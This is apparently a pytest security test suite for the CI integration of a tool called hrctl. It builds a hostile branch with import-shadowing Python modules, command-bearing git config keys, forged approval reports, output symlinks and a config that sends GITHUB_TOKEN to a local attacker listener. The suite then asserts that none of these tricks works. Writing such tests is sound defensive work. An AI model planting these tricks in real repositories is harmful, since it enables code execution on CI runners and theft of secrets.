"""A hostile branch against the real steps of the action, of the workflows and of the pipeline.

The branch holds every trick that its author could commit at once. It is planned by the `run:` texts
themselves, in a shell, with the environment that a runner has. Afterwards nothing of it has run,
nothing was sent, nothing was written beside the runner's temporary folder, and what was posted is
what hrctl found.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from tests.ci.conftest import GITLAB_BOT, TOKEN, Forge
from tests.ci.runner import EXAMPLES, ROOT, Done, Runner, git, new_project, read
from tests.ci.test_files import ACTION, VALUES, workflow

FORGED = f"sha256:{'ab' * 32}"
FORGED_PLAN = (
    f"<!-- hrctl:plan:acme -->\n### hrctl plan: no changes of this branch\n\nApproval: `{FORGED}`\n"
)
# Modules that Python, pip, venv or hrctl import: from the checkout, where that is searched.
SHADOWS = [
    *("venv", "pip", "ensurepip", "supervisor", "hrctl", "yaml"),
    *("json", "sitecustomize", "usercustomize", "typer", "msgpack"),
]


class Listener:
    """Whatever the branch names as a server; remembers who came."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        seen = self.seen

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                seen.append(f"{self.command} {self.path} {dict(self.headers)}")
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"{}")

            do_GET = do_POST = do_PUT = do_PATCH = do_HEAD = _answer  # noqa: N815 - its names

            def log_message(self, *_args: Any) -> None:
                """Keep quiet."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self.server.server_port}"
        Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def attacker() -> Iterator[Listener]:
    """A server of the attacker's."""
    made = Listener()
    yield made
    made.server.shutdown()
    made.server.server_close()


@dataclass
class Attack:
    """A clone with the hostile branch checked out, and what must not happen."""

    clone: Path
    canary: Path
    victim: Path
    attacker: Listener
    before: dict[str, bytes] = field(default_factory=dict)

    @property
    def project(self) -> Path:
        return self.clone / "platform"

    def files(self) -> dict[str, bytes]:
        return {
            str(path.relative_to(self.clone)): path.read_bytes()
            for path in sorted(self.clone.rglob("*"))
            if path.is_file() and not path.is_symlink() and ".git" not in path.parts
        }

    def require_unharmed(self, *results: Done) -> None:
        """Nothing ran, nothing was sent, nothing was written."""
        assert not self.canary.exists(), self.canary.read_text()
        assert self.attacker.seen == []
        assert self.victim.read_text() == "the operator's\n"
        after = {name: data for name, data in self.files().items() if "hrctl-out/" not in name}
        assert after == self.before
        for done in results:
            assert TOKEN not in done.output
            assert FORGED not in done.output


def settings(address: str) -> str:
    """An hrctl.yaml that sends tokens, looks at hosts, runs commands and refuses nothing."""
    drivers = {
        "flags": {
            "type": "unleash",
            "url": f"http://{address}",
            "token": {"valueFrom": {"env": "GITHUB_TOKEN"}},
        },
        "edge": {
            "type": "envoy",
            "mode": "external",
            "configDir": "out",
            "admin": address,
        },
        "lb": {
            "type": "haproxy",
            "mode": "external",
            "config": "lb.cfg",
            "socket": address,
            "reload": ["sh", "-c", "touch ../../canary"],
        },
    }
    spec = {
        "drivers": drivers,
        "ledger": "sqlite:.hrctl/ledger.db",
        "safety": {"maxDeletes": 100_000, "maxDeletePercent": 100, "maxUpdatePercent": 100},
        "blastRadius": {"deletes": {}},
    }
    head = {"apiVersion": "hrctl.dev/v1", "kind": "Project", "metadata": {"name": "acme"}}
    return json.dumps({**head, "spec": spec})


def shadow(folder: Path, canary: Path) -> None:
    """Modules that tell when they are imported."""
    for name in SHADOWS:
        (folder / f"{name}.py").write_text(f"open({str(canary)!r}, 'a').write('{name}\\n')\n")
    (folder / "pip.conf").write_text("[global]\nindex-url = http://127.0.0.1:1/simple\n")
    (folder / "setup.cfg").write_text("[install]\nprefix = /nowhere\n")
    (folder / ".envrc").write_text(f"touch {canary}\n")


def embed_repository(platform: Path, canary: Path, env: dict[str, str]) -> None:
    """Make the project's folder a bare repository as well, with commands in its configuration."""
    git(platform, env, "init", "-q")
    git(platform, env, "add", "-A")
    git(platform, env, "commit", "-qm", "Inside")
    inner = platform / ".git"
    for name in ("HEAD", "config", "objects", "refs", "index"):
        shutil.move(inner / name, platform / name)
    shutil.rmtree(inner)
    (platform / "refs" / "keep").touch()
    commands = {
        "core.worktree": ".",
        "core.fsmonitor": f"touch {canary}; false",
        "core.hooksPath": "hooks",
        "filter.x.clean": f"touch {canary}; cat",
        "diff.external": f"touch {canary}",
        "diff.x.textconv": f"touch {canary}; cat",
        "merge.x.driver": f"touch {canary}",
    }
    for key, value in commands.items():
        git(platform, env, "config", "--file", str(platform / "config"), key, value)
    (platform / ".gitattributes").write_text("* filter=x diff=x merge=x\n")
    (platform / "hooks").mkdir()
    hook = platform / "hooks" / "post-index-change"
    hook.write_text(f"#!/bin/sh\ntouch {canary}\n")
    hook.chmod(0o755)


def forge_reports(folder: Path, victim: Path) -> None:
    """A plan that nobody made, in each place where a step may look for one."""
    for name in ("plan.md", "drift.md", "comment.md"):
        (folder / name).write_text(FORGED_PLAN)
    (folder / "approved.txt").write_text(f"{FORGED}\n")
    for name in ("hrctl.sarif", "hrctl.xml"):
        (folder / name).mkdir()
        (folder / name / "keep").touch()
    (folder / "hrctl-out").symlink_to(victim.parent)
    (folder / "out").symlink_to(victim.parent)


@pytest.fixture
def attack(tmp_path: Path, environ: dict[str, str], attacker: Listener) -> Attack:
    """A hostile branch, cloned as a runner does."""
    origin = tmp_path / "origin"
    platform = origin / "platform"
    new_project(platform, environ)
    shutil.rmtree(platform / ".git")
    document = "---\napiVersion: hrctl.dev/v1\nkind: Service\nmetadata: {{name: s{0}}}\n"
    many = [document.format(number) + "spec: {type: API, command: x}\n" for number in range(60)]
    (platform / "many.yaml").write_text("".join(many))
    git(origin, environ, "init", "-q")
    git(origin, environ, "add", "-A")
    git(origin, environ, "commit", "-qm", "Start")
    victims = tmp_path / "operator"
    victims.mkdir()
    made = Attack(tmp_path / "clone", tmp_path / "canary", victims / "plan.md", attacker)
    made.victim.write_text("the operator's\n")

    git(origin, environ, "checkout", "-qb", "hostile")
    (platform / "many.yaml").unlink()
    (platform / "hrctl.yaml").write_text(settings(attacker.address))
    (platform / "registry.yaml").write_text(
        "apiVersion: hrctl.dev/v1\nkind: Registry\nmetadata: {name: acme}\n"
        "spec: {level: ROOT, drivers: {FeatureFlag: flags, Node: edge, Route: lb}}\n"
    )
    (platform / "more.yaml").write_text(
        "apiVersion: hrctl.dev/v1\nkind: FeatureFlag\nmetadata: {name: f}\n"
        "spec: {type: BOOLEAN, status: ENABLED, hash: unleash}\n---\n"
        "apiVersion: hrctl.dev/v1\nkind: Node\nmetadata: {name: n}\n"
        f"spec: {{type: COMPUTE, address: '{attacker.address}'}}\n---\n"
        "apiVersion: hrctl.dev/v1\nkind: Service\nmetadata: {name: evil}\n"
        f"spec: {{type: API, command: touch {made.canary}, "
        f"healthCheck: {{command: touch {made.canary}}}}}\n"
    )
    state = platform / ".hrctl"
    state.mkdir()
    for name in ("ledger.db", "cache.db", "registry.db"):
        (state / name).write_bytes(b"a ledger that says that all is applied")
    for folder in (origin, platform):
        shadow(folder, made.canary)
        forge_reports(folder, made.victim)
    embed_repository(platform, made.canary, environ)
    git(origin, environ, "add", "-Af")
    git(origin, environ, "commit", "-qm", "Fix a typo")
    git(tmp_path, environ, "clone", "-q", "origin", "clone")
    git(made.clone, environ, "checkout", "-q", "--detach", "origin/hostile")
    assert not made.canary.exists()
    made.before = made.files()
    return made


def require_true_plan(body: str) -> None:
    """A comment that says what the branch does; never what it forged."""
    assert FORGED not in body
    assert "hrctl plan: refused (3 to add, 1 to change, 60 to destroy, 26 settings" in body
    assert "HR120" in body
    assert "26 settings of the project" in body


def test_the_action(attack: Attack, forge: Forge, github: dict[str, str]) -> None:
    steps = read(ROOT / "action.yml")["runs"]["steps"]
    runner = Runner(attack.clone, {**github, "GITHUB_BASE_REF": "main"}, VALUES)
    done = runner.steps(steps, {**ACTION, "command": "plan", "directory": "platform"})
    attack.require_unharmed(done)
    assert done.code == 4
    assert "approved" not in done.outputs
    (body,) = forge.bodies(5)
    require_true_plan(body)
    require_true_plan(Path(github["GITHUB_STEP_SUMMARY"]).read_text())
    forge.merged[runner.commit] = 5
    done = runner.steps(steps, {**ACTION, "command": "apply", "directory": "platform"})
    attack.require_unharmed(done)
    assert done.code != 0


def test_the_workflow(attack: Attack, forge: Forge, github: dict[str, str]) -> None:
    runner = Runner(attack.project, {**github, "GITHUB_BASE_REF": "main"}, VALUES)
    done = runner.steps(workflow("plan"))
    attack.require_unharmed(done)
    assert done.code == 4
    (body,) = forge.bodies(5)
    require_true_plan(body)


def test_the_pipeline(attack: Attack, forge: Forge, gitlab: dict[str, str]) -> None:
    jobs = read(EXAMPLES / "gitlab-ci.yml")
    runner = Runner(attack.project, gitlab, {})
    target = {
        "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
        "CI_PROJECT_DIR": str(attack.clone),
    }
    begin = jobs[".hrctl"]["before_script"][:2]
    done = runner.script(jobs["hrctl plan"], target, begin)
    attack.require_unharmed(done)
    assert done.code == 4
    (body,) = forge.bodies(5, GITLAB_BOT)
    require_true_plan(body)


def test_the_script(attack: Attack, environ: dict[str, str], tmp_path: Path) -> None:
    out = tmp_path / "out"
    env = {**environ, "HRCTL_OUT": str(out), "HRCTL_STATE_DIR": str(tmp_path / "state")}
    runner = Runner(attack.project, env, {})
    line = f"{EXAMPLES / 'hrctl-ci.sh'} plan origin/main"
    done = runner.script({"script": [line]}, {})
    attack.require_unharmed(done)
    assert done.code == 4
    require_true_plan((out / "plan.md").read_text())
    assert not (out / "approved.txt").exists()  # a plan that is refused approves nothing


def test_a_person_who_looks_at_the_branch(
    attack: Attack, environ: dict[str, str], tmp_path: Path
) -> None:
    secret = {**environ, "GITHUB_TOKEN": TOKEN}
    for command in ("validate", "fmt --check", "plan --base origin/main", "plan", "drift"):
        done = Runner(attack.project, secret, {}).script({"script": [f"hrctl {command}"]}, {})
        attack.require_unharmed(done)
        assert "HR320" in done.output, done.output
    elsewhere = {**secret, "HRCTL_STATE_DIR": str(tmp_path / "state")}
    for command in ("validate", "fmt --check", "plan --base origin/main"):
        done = Runner(attack.project, elsewhere, {}).script({"script": [f"hrctl {command}"]}, {})
        attack.require_unharmed(done)
    # a plan without --base goes by the settings here, and has no token to send to their servers
    done = Runner(attack.project, elsewhere, {}).script({"script": ["hrctl plan"]}, {})
    assert "HR315" in done.output
    assert TOKEN not in done.output
    assert TOKEN not in "".join(attack.attacker.seen)


def test_the_installation(attack: Attack, github: dict[str, str], tmp_path: Path) -> None:
    """Where a step begins in the checkout, Python and pip still take nothing from it."""
    script = (ROOT / "scripts" / "install.sh").read_text()
    (line,) = [one for one in script.splitlines() if "-m venv" in one]
    target = tmp_path / "venv"
    shell = ["bash", "-euc", f'target={target}\n{line}\n"$target/bin/python" -I -m pip --version']
    done = subprocess.run(
        shell, cwd=attack.clone, env=github, check=False, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert str(target) in done.stdout
    attack.require_unharmed()
    texts = [script, (ROOT / "action.yml").read_text()]
    texts += [path.read_text() for path in EXAMPLES.rglob("*") if path.is_file()]
    for text in texts:
        lines = [one for one in text.splitlines() if "pip" in one and "install " in one]
        for one in lines:
            assert "--require-hashes" in one or "--no-index" in one, one


def test_the_forged_report_is_a_trap(attack: Attack) -> None:
    """What the tests above rely on: imported or read as before, each trick would have worked."""
    done = subprocess.run(
        ["python3", "-m", "venv", "--help"], cwd=attack.clone, check=False, capture_output=True
    )
    assert attack.canary.exists(), done
    assert FORGED in (attack.project / "plan.md").read_text()
